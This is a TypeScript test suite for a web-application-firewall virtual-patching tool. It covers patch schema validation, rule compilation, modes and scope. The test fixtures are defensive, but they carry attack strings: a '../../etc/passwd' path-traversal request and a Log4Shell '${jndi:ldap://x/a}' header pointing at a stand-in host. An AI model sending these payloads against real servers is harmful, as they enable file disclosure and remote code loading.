/**
 * The patch format: the published schema, errors that name file, field and reason, the compiler
 * (modes, scope, raw SecLang), and the loader's catalog for `vpatch serve`.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parsePatch, loadPatchDir, loadCatalog } from '../../src/patches/loader.js';
import { PatchLoadError, PatchValidationError } from '../../src/patches/errors.js';
import { compilePatch } from '../../src/patches/compiler.js';
import { compileForTest, evaluate } from '../../src/patches/engine-runner.js';
import { buildRequest } from '../../src/patches/requests.js';
import { PATCH_SCHEMA_PATH } from '../../src/patches/paths.js';
import { scaffoldPatch } from '../../src/patches/scaffold.js';
import { Waf } from '../../src/engine/index.js';

const GOOD = `id: VP-2099-0001
title: Example product path traversal in the download endpoint
cves: [CVE-2099-0001]
severity: high
affected:
  - product: Example
    purl: pkg:generic/example/example
    versions: ["<1.2.3"]
    fixed: ["1.2.3"]
references: [https://example.com/advisory]
expires: { retireWhen: example 1.2.3 deployed }
rules:
  - id: 1790000
    msg: traversal in file
    targets: [ARGS:file]
    transforms: [urlDecodeUni]
    rx: '\\.\\.[/\\\\]'
tests:
  block: [{ uri: '/download?file=../../etc/passwd' }]
  pass: [{ uri: '/download?file=report.pdf' }]
`;

function expectError(text: string, field: RegExp, reason: RegExp): PatchValidationError {
  try {
    parsePatch(text, 'patches/x.yaml');
  } catch (err) {
    assert.ok(err instanceof PatchValidationError, `not a PatchValidationError: ${String(err)}`);
    assert.equal(err.file, 'patches/x.yaml');
    assert.match(err.field, field);
    assert.match(err.reason, reason);
    assert.match(err.message, /^patches\/x\.yaml: /);
    return err;
  }
  assert.fail('accepted an invalid patch');
}

test('the published JSON Schema is valid JSON with an $id', () => {
  const schema = JSON.parse(readFileSync(PATCH_SCHEMA_PATH, 'utf8')) as { $id: string; required: string[] };
  assert.match(schema.$id, /patch/);
  assert.ok(schema.required.includes('rules') && schema.required.includes('tests'));
});

test('a valid patch loads with defaults', () => {
  const p = parsePatch(GOOD, 'x.yaml');
  assert.equal(p.mode, 'block');
  assert.equal(p.kev, false);
  assert.deepEqual(p.scope, { hosts: [], paths: [], methods: [] });
  assert.equal(p.sha256.length, 64);
});

test('invalid files are rejected with file, field and reason', () => {
  expectError(GOOD.replace('severity: high', 'severity: huge'), /^\/severity$/, /one of/);
  expectError(GOOD.replace('cves: [CVE-2099-0001]\n', ''), /\/cves$/, /missing required field "cves"/);
  expectError(GOOD.replace('title:', 'titel: x\ntitle:'), /\/titel$/, /unknown field/);
  expectError(GOOD.replace('id: 1790000', 'id: 42'), /\/rules\/0\/id$/, />= 1700000/);
  expectError(GOOD.replace("rx: '\\.\\.[/\\\\]'", "rx: 'a(?=b)'"), /\/rules\/0\/rx$/, /RE2/);
  expectError(GOOD.replace('targets: [ARGS:file]', 'targets: [bogus_var]'), /\/rules\/0\/targets\/0$/, /unknown target/);
  expectError(GOOD.replace("    rx: '\\.\\.[/\\\\]'\n", ''), /\/rules\/0/, /exactly one operator/);
  expectError(GOOD.replace('transforms: [urlDecodeUni]', 'transforms: [urlDecodeWhatever]'), /\/rules\/0\/transforms\/0$/, /one of/);
  expectError(GOOD.replace('  pass: [', '  pass: []\n  xpass: ['), /\/tests/, /unknown field|fewer than 1/);
  expectError(GOOD.replace('id: VP-2099-0001', 'id: VP-2098-0001'), /^\/id$/, /matches none of its CVEs/);
  expectError(GOOD + 'rules: []\n', /line \d+/, /YAML syntax/);
  expectError(GOOD.replace("references: [https://example.com/advisory]", 'references: [ftp://x]'), /\/references\/0$/, /pattern/);
});

test('raw SecLang rules must carry their own id and a phase', () => {
  const raw = (s: string) => GOOD.replace(/  - id: 1790000\n[\s\S]*?(?=tests:)/, `  - id: 1790000\n    seclang: |\n      ${s}\n`);
  expectError(raw('SecRule ARGS "@rx x" "id:1790001,phase:2,deny"'), /\/rules\/0\/seclang$/, /id:1790000/);
  expectError(raw('SecRule ARGS "@rx x" "id:1790000,deny"'), /\/rules\/0\/seclang$/, /phase/);
  const ok = parsePatch(raw('SecRule ARGS:file "@rx \\.\\./" "id:1790000,phase:2,deny,status:500,t:none,t:urlDecodeUni"'), 'x.yaml');
  const text = compilePatch(ok, 'detect');
  assert.match(text, /id:1790000,phase:2,pass,/);
  assert.doesNotMatch(text, /deny|status:500/);
});

test('a directory load reports every invalid file and duplicate rule ids', () => {
  const dir = mkdtempSync(join(tmpdir(), 'vp-'));
  writeFileSync(join(dir, 'VP-2099-0001.yaml'), GOOD);
  writeFileSync(join(dir, 'VP-2099-0002.yaml'), GOOD.replace(/VP-2099-0001/g, 'VP-2099-0002').replace(/CVE-2099-0001/g, 'CVE-2099-0002'));
  writeFileSync(join(dir, 'broken.yaml'), GOOD.replace('severity: high', 'severity: 7'));
  try {
    loadPatchDir(dir);
    assert.fail('loaded');
  } catch (err) {
    assert.ok(err instanceof PatchLoadError);
    const msgs = err.errors.map((e) => e.message).join('\n');
    assert.match(msgs, /broken\.yaml: \/severity: /);
    assert.match(msgs, /rule id 1790000 is also used by VP-2099-0001/);
  }
});

test('modes: block denies, detect only logs, off emits nothing', () => {
  const p = parsePatch(GOOD, 'x.yaml');
  const req = buildRequest(p.tests.block[0]!);
  const block = evaluate(compileForTest([p], { [p.id]: 'block' }), req);
  assert.equal(block.interrupted, true);
  assert.equal(block.ruleId, 1790000);
  const detect = evaluate(compileForTest([p], { [p.id]: 'detect' }), req);
  assert.equal(detect.interrupted, false);
  assert.deepEqual(detect.matchedIds, [1790000]);
  assert.equal(compilePatch(p, 'off'), '');
});

test('scope restricts a patch to hosts, path prefixes and methods', () => {
  const scoped = parsePatch(GOOD.replace('rules:', 'scope: { hosts: ["*.example.com"], paths: [/download], methods: [GET] }\nrules:'), 'x.yaml');
  const waf = compileForTest([scoped]);
  const hit = (uri: string, host: string, method = 'GET') => evaluate(waf, buildRequest({ uri, method, headers: { Host: host } })).interrupted;
  assert.equal(hit('/download?file=../x', 'files.example.com'), true);
  assert.equal(hit('/download?file=../x', 'files.example.com:8443'), true);
  assert.equal(hit('/download?file=../x', 'example.org'), false);
  assert.equal(hit('/other?file=../x', 'files.example.com'), false);
  assert.equal(hit('/download?file=../x', 'files.example.com', 'POST'), false);
});

test('the scaffold written by `patch new` is a valid patch whose cases pass', () => {
  const text = scaffoldPatch({ id: 'VP-2099-12345', cve: 'CVE-2099-12345', title: 'New thing', ruleId: 1790100, today: '2099-01-02' });
  const p = parsePatch(text, 'VP-2099-12345.yaml');
  assert.equal(p.mode, 'detect');
  assert.equal(p.expires.date, '2100-01-02');
  const waf = compileForTest([p]);
  assert.equal(evaluate(waf, buildRequest(p.tests.block[0]!)).interrupted, true);
  assert.equal(evaluate(waf, buildRequest(p.tests.pass[0]!)).interrupted, false);
});

test('loadCatalog gives vpatch serve the SecLang, per patch files, and honours modes', () => {
  const all = loadCatalog('builtin');
  assert.ok(all.patches.length >= 80);
  assert.equal(all.enabled.length, all.patches.length);
  const off = loadCatalog('builtin', { modes: { 'VP-2021-44228': 'off' }, env: '' });
  assert.equal(off.enabled.length, all.patches.length - 1);
  assert.doesNotMatch(off.seclang, /id:1700100,/);
  const waf = Waf.compile(off.files);
  const tx = waf.newTransaction();
  tx.processConnection('127.0.0.1', 1, '127.0.0.1', 2);
  tx.processUri('/', 'GET', 'HTTP/1.1');
  tx.addRequestHeader('Host', 'localhost');
  tx.addRequestHeader('User-Agent', '${jndi:ldap://x/a}');
  assert.equal(tx.processRequestHeaders() ?? tx.processRequestBody(), null);
});
